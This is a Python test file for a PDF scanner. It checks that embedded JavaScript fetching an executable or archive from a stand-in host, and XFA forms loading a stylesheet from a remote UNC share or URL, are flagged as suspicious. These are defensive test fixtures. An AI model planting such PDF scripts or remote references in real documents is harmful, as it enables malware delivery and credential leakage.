"""What documents fetch by their scripts and forms, and forms that fetch nothing."""

from __future__ import annotations

import pytest

from app.engine.model import Severity
from app.engine.scan import Engine


def document(root: str, form: str = "") -> bytes:
    return (
        f"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R {root}>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
        f"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj 4 0 obj<</Length {len(form)}>>stream\n{form}\n"
        f"endstream endobj trailer<</Root 1 0 R>>\n%%EOF"
    ).encode()


def severities(engine: Engine, content: bytes) -> dict[str, Severity]:
    return {finding.id: finding.severity for finding in engine.scan(content, name="a.pdf").findings}


@pytest.mark.parametrize(
    ("script", "told"),
    [
        ("app.launchURL\\('http://pay.example.net/update.exe',true\\);", True),
        ('this.getURL\\("https://pay.example.net/invoice.zip?id=1"\\);', True),
        ("app.launchURL\\('https://www.example.org/help.html'\\);", False),
        ("app.alert\\('Save as a.exe'\\);", False),
    ],
)
def test_a_script_that_fetches_a_program_is_suspicious(engine: Engine, script: str, told: bool) -> None:
    found = severities(engine, document(f"/OpenAction<</S/JavaScript/JS({script})>>"))

    assert (found.get("pdf.script_fetches") is Severity.SUSPICIOUS) is told


@pytest.mark.parametrize(
    ("place", "told"),
    [("\\\\203.0.113.9\\share\\a.xslt", True), ("https://pay.example.net/a.xslt", True), ("form.xslt", False)],
)
def test_a_form_whose_look_lies_elsewhere_is_suspicious(engine: Engine, place: str, told: bool) -> None:
    form = f"<?xml version='1.0'?><?xml-stylesheet href='{place}' type='text/xsl'?><form/>"

    found = severities(engine, document("/AcroForm<</XFA 4 0 R>>", form))

    assert (found.get("pdf.remote_file") is Severity.SUSPICIOUS) is told
